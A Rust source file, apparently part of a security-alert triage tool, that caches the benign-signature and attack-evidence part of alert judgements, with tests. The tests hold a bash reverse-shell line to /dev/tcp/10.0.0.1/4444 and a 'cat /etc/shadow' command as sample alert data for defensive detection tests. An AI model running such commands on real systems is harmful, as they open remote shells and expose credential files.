//! The static part of a repeat's judgement, computed once and shared.
//!
//! Benign signatures and attack evidence depend only on the alert's rule and a known set of its
//! fields (the fields the signatures, the attack guard and the evidence entries read). A storm
//! repeats the same values thousands of times, with only pids, times and names that nothing
//! reads changing between alerts. The cache is keyed by exactly those inputs, byte for byte,
//! not by the fingerprint (which normalises numbers that evidence patterns do read: a reverse
//! shell to 127.0.0.1 and one to 10.0.0.1 share a fingerprint), so a judgement from the cache is
//! the judgement computed afresh.
//!
//! Only score-only judgements (`explain == false`, the repeats that get no report) use it: a
//! cached signature match keeps no field values, which only the reasons would show.

use super::evidence::{message_says_host, reads_message};
use super::{conclude, judge_with, Context, Hit, Judgement, Subject};
use crate::kb::{KnowledgeBase, Rule, Signature, SignatureMatch, ANCESTRY_PREFIX};
use crate::scoring::Scoring;
use fa_model::{Alert, FieldValueExt};
use serde_json::Value;
use std::borrow::Cow;
use std::collections::HashMap;
use std::hash::BuildHasherDefault;
use std::io::Write;
use std::sync::{Arc, Weak};

/// Distinct inputs remembered at most; the table starts afresh when it is full.
const LIMIT: usize = 8192;

/// Ends a name or a textual value in a key: no UTF-8 text contains this byte.
const END: u8 = 0xFF;
/// Starts a field given by its index in the table: no UTF-8 text starts with this byte.
const FIELD: u8 = 0xFE;

/// A matched signature: the rule's own (index into `Rule::signatures`) or a global one.
#[derive(Debug, Clone, Copy)]
enum SigRef {
    Own(usize),
    Global(usize),
}

/// A piece of attack evidence that held: its entry, and the field and value that carried it.
#[derive(Debug)]
struct CachedHit {
    entry: usize,
    field: String,
    value: String,
}

/// The static part of a judgement (the benign signatures and attack evidence that held),
/// without borrowing the alert: made on any thread (`Analyzer::prepare`), read with the
/// context by [`judge_from`].
#[derive(Debug)]
pub struct Statics {
    benign: Vec<SigRef>,
    evidence: Vec<CachedHit>,
}

#[derive(Debug)]
struct Entry {
    key: Box<[u8]>,
    statics: Arc<Statics>,
}

/// What the knowledge base and scoring read, and the inputs already judged.
#[derive(Debug, Default)]
pub struct JudgeCache {
    /// The knowledge base and scoring the entries were computed with (held weakly, so an
    /// address can never be reused by another while the entries stand).
    built_for: Option<(Weak<KnowledgeBase>, Weak<Scoring>)>,
    /// Field names the static part reads (plus every `proc.aname[N]`), with their
    /// `fa_model::fields::name_hash`, sorted by hash: the alert's fields carry the same hash.
    fields: Vec<(u64, String)>,
    /// Open-addressing table over `fields` by hash (index + 1; 0 = empty), a power of two in
    /// size: one probe for most names, where a binary search took seven.
    slots: Vec<u32>,
    /// It reads `hostname`, which falls back to the alert's top-level hostname.
    reads_hostname: bool,
    /// Keyed by the xxh3 of the key: hashed no further.
    entries: HashMap<u64, Entry, BuildHasherDefault<fa_model::fields::HashIsKey>>,
    /// The key being built (kept to reuse its allocation).
    key: Vec<u8>,
    hits: u64,
    misses: u64,
}

impl JudgeCache {
    pub fn new() -> Self {
        Self::default()
    }

    /// (judgements answered from the cache, judgements computed).
    pub fn stats(&self) -> (u64, u64) {
        (self.hits, self.misses)
    }

    /// [`judge_with`]: the same verdict (with its reasons when `explain`) and attack evidence.
    pub fn judge(
        &mut self,
        kb: &Arc<KnowledgeBase>,
        scoring: &Arc<Scoring>,
        alert: &Alert,
        rule: Option<&Rule>,
        ctx: &Context,
        explain: bool,
    ) -> Judgement {
        let st = match self.key_for(kb, scoring, alert, rule) {
            Some(h) => self.remembered(h, kb, scoring, alert, rule),
            None => None,
        };
        match st {
            Some(st) => judge_from(kb, scoring, alert, rule, ctx, &st, explain),
            // Nothing to remember it by: judged afresh, without writing the static part down.
            None => judge_with(kb, scoring, alert, rule, ctx, explain),
        }
    }

    /// The static part of the alert's judgement, remembered for its inputs; `None` when it
    /// cannot be written down (the alert is then judged afresh).
    pub fn statics(
        &mut self,
        kb: &Arc<KnowledgeBase>,
        scoring: &Arc<Scoring>,
        alert: &Alert,
        rule: Option<&Rule>,
    ) -> Option<Arc<Statics>> {
        match self.key_for(kb, scoring, alert, rule) {
            Some(h) => self.remembered(h, kb, scoring, alert, rule),
            None => fresh(kb, scoring, alert, rule).map(Arc::new),
        }
    }

    /// The hash of the alert's inputs (in `self.key`), or `None` (counted as a miss) when they
    /// cannot be keyed: evidence read from the message (a message carries times and ids, it
    /// never repeats), or a value that cannot be written.
    fn key_for(
        &mut self,
        kb: &Arc<KnowledgeBase>,
        scoring: &Arc<Scoring>,
        alert: &Alert,
        rule: Option<&Rule>,
    ) -> Option<u64> {
        if !reads_message(alert) {
            self.bind(kb, scoring);
            if self.build_key(alert, rule) {
                return Some(xxhash_rust::xxh3::xxh3_64(&self.key));
            }
        }
        self.misses += 1;
        None
    }

    /// The static part remembered under `h` (the key in `self.key`), else worked out and
    /// remembered.
    fn remembered(
        &mut self,
        h: u64,
        kb: &KnowledgeBase,
        scoring: &Scoring,
        alert: &Alert,
        rule: Option<&Rule>,
    ) -> Option<Arc<Statics>> {
        if let Some(e) = self.entries.get(&h).filter(|e| *e.key == *self.key) {
            self.hits += 1;
            return Some(Arc::clone(&e.statics));
        }
        self.misses += 1;
        let st = Arc::new(fresh(kb, scoring, alert, rule)?);
        if self.entries.len() >= LIMIT {
            self.entries.clear();
        }
        self.entries.insert(
            h,
            Entry {
                key: self.key.as_slice().into(),
                statics: Arc::clone(&st),
            },
        );
        Some(st)
    }

    /// Start afresh when the knowledge base or scoring is not the one the entries came from.
    fn bind(&mut self, kb: &Arc<KnowledgeBase>, scoring: &Arc<Scoring>) {
        if let Some((k, s)) = &self.built_for {
            if k.as_ptr() == Arc::as_ptr(kb) && s.as_ptr() == Arc::as_ptr(scoring) {
                return;
            }
        }
        let mut fields: Vec<String> = Vec::new();
        let sigs = kb
            .global_signatures()
            .iter()
            .chain(kb.rules().iter().flat_map(|r| r.signatures.iter()));
        for s in sigs {
            fields.extend(s.read_fields().into_iter().map(str::to_string));
        }
        fields.extend(kb.attack_guard().fields().iter().cloned());
        fields.extend(scoring.evidence.read_fields().map(str::to_string));
        fields.sort();
        fields.dedup();
        self.reads_hostname = fields
            .iter()
            .any(|f| f == "hostname" || f == "evt.hostname");
        let mut hashed: Vec<(u64, String)> = fields
            .into_iter()
            .map(|f| (fa_model::fields::name_hash(&f), f))
            .collect();
        hashed.sort();
        let size = (hashed.len() * 4).next_power_of_two().max(16);
        let mut slots = vec![0u32; size];
        for (i, (h, _)) in hashed.iter().enumerate() {
            let mut at = (*h as usize) & (size - 1);
            while slots[at] != 0 {
                at = (at + 1) & (size - 1);
            }
            slots[at] = i as u32 + 1;
        }
        self.slots = slots;
        self.fields = hashed;
        self.entries.clear();
        self.built_for = Some((Arc::downgrade(kb), Arc::downgrade(scoring)));
    }

    /// The inputs of the static part: the rule, whether the alert is on the host, and the value
    /// of every field read. False when a value cannot be written (it is then judged afresh).
    fn build_key(&mut self, alert: &Alert, rule: Option<&Rule>) -> bool {
        let k = &mut self.key;
        k.clear();
        match rule {
            // Entries live as long as the knowledge base they point into (`bind`).
            Some(r) => {
                k.push(1);
                k.extend_from_slice(&(r as *const Rule as usize).to_le_bytes());
            }
            None => {
                k.push(0);
                k.extend_from_slice(alert.rule.as_str().as_bytes());
                k.push(END);
            }
        }
        if self.reads_hostname {
            match alert.hostname.as_deref() {
                Some(h) => {
                    k.push(1);
                    k.extend_from_slice(h.as_bytes());
                    k.push(END);
                }
                None => k.push(0),
            }
        }
        // `container.id` is always read (evidence scoped to containers): seeing it here saves
        // `on_host` a lookup.
        let mut container_on_host: Option<bool> = None;
        for (hash, name, value) in alert.output_fields.iter_hashed() {
            // A field of the table is written as its index (keys stay small, so the entries
            // compared stay in cache), an ancestor beyond the table by its name.
            match reads(&self.fields, &self.slots, hash, name) {
                Some(i) => {
                    k.push(FIELD);
                    k.extend_from_slice(&(i as u32).to_le_bytes());
                }
                None if name.starts_with(ANCESTRY_PREFIX) => {
                    k.extend_from_slice(name.as_bytes());
                    k.push(END);
                }
                None => continue,
            }
            if name == "container.id" {
                container_on_host = value.as_text().map(|id| id == "host");
            }
            match value {
                Value::Null => k.push(0),
                Value::Bool(b) => k.push(1 + u8::from(*b)),
                Value::Number(n) => {
                    if let Some(u) = n.as_u64() {
                        k.push(3);
                        k.extend_from_slice(&u.to_le_bytes());
                    } else if let Some(i) = n.as_i64() {
                        k.push(6);
                        k.extend_from_slice(&i.to_le_bytes());
                    } else {
                        k.push(7);
                        if write!(k, "{n}").is_err() {
                            return false;
                        }
                        k.push(END);
                    }
                }
                Value::String(s) => {
                    k.push(4);
                    k.extend_from_slice(s.as_bytes());
                    k.push(END);
                }
                Value::Array(_) | Value::Object(_) => {
                    k.push(5);
                    if serde_json::to_writer(&mut *k, value).is_err() {
                        return false;
                    }
                    k.push(END);
                }
            }
        }
        // What `on_host` decides: the container id, else the message.
        let on_host = container_on_host.unwrap_or_else(|| message_says_host(alert));
        k.push(u8::from(on_host));
        true
    }
}

/// The index of `name` (with its hash) in `fields`, if it is one (`slots` indexes them by hash).
fn reads(fields: &[(u64, String)], slots: &[u32], hash: u64, name: &str) -> Option<usize> {
    let mask = slots.len().wrapping_sub(1);
    let mut at = (hash as usize) & mask;
    for _ in 0..slots.len() {
        let i = slots.get(at).and_then(|&s| (s as usize).checked_sub(1))?;
        if fields.get(i).is_some_and(|(h, f)| *h == hash && f == name) {
            return Some(i);
        }
        at = (at + 1) & mask;
    }
    None
}

/// The static part worked out afresh; `None` when a match cannot be pointed back to its
/// signature or evidence entry.
fn fresh(
    kb: &KnowledgeBase,
    scoring: &Scoring,
    alert: &Alert,
    rule: Option<&Rule>,
) -> Option<Statics> {
    let benign = kb.benign_matches(alert, rule);
    let evidence = scoring.evidence.find(alert);
    Some(Statics {
        benign: benign
            .iter()
            .map(|m| sig_ref(kb, rule, m))
            .collect::<Option<Vec<_>>>()?,
        evidence: evidence
            .iter()
            .map(|h| CachedHit {
                entry: h.evidence.index(),
                field: h.field.to_string(),
                value: h.value.to_string(),
            })
            .collect(),
    })
}

/// [`judge_with`] from the alert's static part worked out before: the judgement computed
/// afresh, without testing every signature and evidence entry again. With `explain`, the
/// signatures that held are matched once more (only they) for the values their reasons show.
pub fn judge_from(
    kb: &KnowledgeBase,
    scoring: &Scoring,
    alert: &Alert,
    rule: Option<&Rule>,
    ctx: &Context,
    statics: &Statics,
    explain: bool,
) -> Judgement {
    match restore(statics, kb, scoring, rule, explain.then_some(alert)) {
        Some((benign, evidence)) => {
            let subject = Subject::from_parts(scoring, alert, ctx, benign, evidence);
            conclude(scoring, alert, rule, &subject, explain)
        }
        None => judge_with(kb, scoring, alert, rule, ctx, explain),
    }
}

/// Which signature a match came from (matches point into the signatures that made them).
fn sig_ref(kb: &KnowledgeBase, rule: Option<&Rule>, m: &SignatureMatch<'_>) -> Option<SigRef> {
    let same = |s: &Signature| std::ptr::eq(&s.source, m.source);
    if let Some(i) = rule.and_then(|r| r.signatures.iter().position(same)) {
        return Some(SigRef::Own(i));
    }
    kb.global_signatures()
        .iter()
        .position(same)
        .map(SigRef::Global)
}

/// A cached entry as the facts read it. With `explained` (the alert judged), each signature
/// that held is matched against it again for the values it matched (`None` if it no longer
/// holds: the caller then judges afresh).
#[allow(clippy::type_complexity)]
fn restore<'a>(
    e: &'a Statics,
    kb: &'a KnowledgeBase,
    scoring: &'a Scoring,
    rule: Option<&'a Rule>,
    explained: Option<&Alert>,
) -> Option<(Vec<SignatureMatch<'a>>, Vec<Hit<'a>>)> {
    let benign = e
        .benign
        .iter()
        .map(|r| {
            let s = match *r {
                SigRef::Own(i) => rule?.signatures.get(i)?,
                SigRef::Global(i) => kb.global_signatures().get(i)?,
            };
            if let Some(alert) = explained {
                return s.matches(alert);
            }
            Some(SignatureMatch {
                id: &s.id,
                reason: &s.reason,
                kind: s.kind.map(|k| k.as_str()),
                source: &s.source,
                // Only a reason shows which values matched, and cached judgements write none.
                evidence: Vec::new(),
            })
        })
        .collect::<Option<Vec<_>>>()?;
    let evidence = e
        .evidence
        .iter()
        .map(|c| {
            Some(Hit {
                evidence: scoring.evidence.entry_at(c.entry)?,
                field: &c.field,
                value: Cow::Borrowed(&c.value),
            })
        })
        .collect::<Option<Vec<_>>>()?;
    Some((benign, evidence))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::verdict::Prevalence;
    use serde_json::json;

    fn setup() -> (Arc<KnowledgeBase>, Arc<Scoring>) {
        (
            Arc::new(KnowledgeBase::load(&[]).expect("kb loads")),
            Arc::new(Scoring::builtin().expect("scoring loads")),
        )
    }

    fn ctx() -> Context {
        Context {
            cluster_count: 1,
            ..Default::default()
        }
    }

    fn alert(rule: &str, fields: serde_json::Value) -> Alert {
        serde_json::from_value(json!({
            "rule": rule, "priority": "Warning", "output": "x", "hostname": "node-1",
            "output_fields": fields,
        }))
        .expect("valid alert")
    }

    /// Kind, score, confidence and attack evidence: all a score-only judgement gives.
    fn same(a: &Judgement, b: &Judgement) -> bool {
        a.verdict.kind == b.verdict.kind
            && a.verdict.score == b.verdict.score
            && a.verdict.confidence == b.verdict.confidence
            && a.verdict.reasons.is_empty()
            && b.verdict.reasons.is_empty()
            && a.attack_evidence == b.attack_evidence
    }

    /// Every bundled alert (the test data and the labelled corpus), judged through the cache
    /// twice (computed, then remembered) and under varied contexts, gets the judgement it gets
    /// afresh.
    #[test]
    fn cached_judgements_are_the_fresh_ones_on_every_bundled_alert() {
        let (kb, s) = setup();
        let mut files: Vec<std::path::PathBuf> = Vec::new();
        for dir in [fa_testdata::alerts_dir(), fa_testdata::corpus_dir()] {
            for e in std::fs::read_dir(&dir).expect("test data directory") {
                let p = e.expect("directory entry").path();
                if p.extension()
                    .is_some_and(|x| x == "jsonl" || x == "txt" || x == "log")
                {
                    files.push(p);
                }
            }
        }
        files.sort();
        let mut alerts = Vec::new();
        for f in &files {
            let input = fa_ingest::open_input(f.to_str().expect("utf-8 path")).expect("opens");
            alerts.extend(input.into_alerts().filter_map(Result::ok));
        }
        assert!(alerts.len() > 100, "only {} alerts", alerts.len());
        let contexts = [
            ctx(),
            Context {
                cluster_count: 500,
                escalating_incident: Some("progressing".into()),
                ..Default::default()
            },
            Context {
                cluster_count: 2,
                prevalence: Some(Prevalence {
                    hosts: 20,
                    workloads: 20,
                    alerts: 400,
                    ..Default::default()
                }),
                ..Default::default()
            },
        ];
        let mut cache = JudgeCache::new();
        for c in &contexts {
            for round in 0..2 {
                for a in &alerts {
                    let rule = kb.rule_for(a);
                    let fresh = judge_with(&kb, &s, a, rule, c, false);
                    let cached = cache.judge(&kb, &s, a, rule, c, false);
                    assert!(
                        same(&fresh, &cached),
                        "round {round}: {a:?}\nfresh {fresh:?}\ncached {cached:?}"
                    );
                    // With reasons: the same reasons, in the same order, naming the same values.
                    let fresh = judge_with(&kb, &s, a, rule, c, true);
                    let cached = cache.judge(&kb, &s, a, rule, c, true);
                    assert_eq!(fresh.verdict, cached.verdict, "round {round}: {a:?}");
                    assert_eq!(fresh.attack_evidence, cached.attack_evidence);
                }
            }
        }
        // After the first pass every alert whose evidence is not read from its message is
        // answered from the cache.
        let cacheable = alerts.iter().filter(|a| !reads_message(a)).count() as u64;
        assert!(cacheable > 50, "{cacheable}");
        let (hits, _) = cache.stats();
        assert!(hits >= 11 * cacheable, "hits {hits}, cacheable {cacheable}");
    }

    #[test]
    fn a_repeat_that_differs_only_in_what_nothing_reads_is_answered_from_the_cache() {
        let (kb, s) = setup();
        let mut cache = JudgeCache::new();
        for pid in 0..10 {
            let a = alert(
                "Read sensitive file untrusted",
                json!({"proc.cmdline": "cat /etc/shadow", "proc.name": "cat", "fd.name": "/etc/shadow",
                    "proc.pid": 1000 + pid, "container.id": "0123456789ab"}),
            );
            cache.judge(&kb, &s, &a, kb.rule_for(&a), &ctx(), false);
        }
        assert_eq!(cache.stats(), (9, 1));
    }

    /// The fingerprint writes numbers as `#`; evidence patterns read them. Same fingerprint,
    /// different evidence: the cache tells them apart.
    #[test]
    fn values_the_fingerprint_normalises_are_told_apart() {
        let (kb, s) = setup();
        let shell = |cmd: &str| {
            alert(
                "Redirect STDOUT/STDIN to Network Connection in Container",
                json!({"proc.cmdline": cmd, "proc.name": "bash", "container.id": "0123456789ab"}),
            )
        };
        let out = shell("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        let local = shell("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1");
        assert_eq!(
            crate::fingerprint::fingerprint(&out),
            crate::fingerprint::fingerprint(&local)
        );
        let mut cache = JudgeCache::new();
        for a in [&out, &local, &out, &local] {
            let rule = kb.rule_for(a);
            let fresh = judge_with(&kb, &s, a, rule, &ctx(), false);
            assert!(same(&fresh, &cache.judge(&kb, &s, a, rule, &ctx(), false)));
        }
        assert_eq!(cache.stats(), (2, 2));
    }

    #[test]
    fn another_knowledge_base_starts_the_cache_afresh() {
        let (kb, s) = setup();
        let (kb2, _) = setup();
        let a = alert("Terminal shell in container", json!({"proc.name": "bash"}));
        let mut cache = JudgeCache::new();
        cache.judge(&kb, &s, &a, kb.rule_for(&a), &ctx(), false);
        cache.judge(&kb2, &s, &a, kb2.rule_for(&a), &ctx(), false);
        cache.judge(&kb2, &s, &a, kb2.rule_for(&a), &ctx(), false);
        assert_eq!(cache.stats(), (1, 2));
    }
}
